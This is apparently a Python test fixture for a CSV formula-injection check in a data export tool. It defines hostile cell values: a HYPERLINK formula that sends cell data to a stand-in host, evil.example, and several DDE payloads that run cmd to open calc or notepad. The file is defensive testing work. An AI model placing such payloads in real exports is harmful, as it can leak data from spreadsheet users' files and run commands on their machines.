"""The CSV export probe's hostile names: grid, roster and unit names that a spreadsheet
would run as formulas (tests/security/test_csv_injection.py), and the exports it reads."""

from __future__ import annotations

from whistle.stats import TABLES

TOWN_A = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
TOWN_B = "@SUM(1+1)*cmd|' /C calc'!A0"
COMMUNITY = "+cmd|' /C calc'!A0"
MEMBER = "-2+3+cmd|' /C calc'!A0"
UNPOSTED = "=1+1"
MAJOR = "=cmd|' /C notepad'!A0"
NAMES = (TOWN_A, TOWN_B, COMMUNITY, MEMBER, UNPOSTED, MAJOR)

# Each export is read whole; these are the windows whose rows carry the formula names.
EXPORTS = tuple((table, where) for table in TABLES for where in ("county", "town A", "community"))
CSV_EXPORTS = len(EXPORTS)
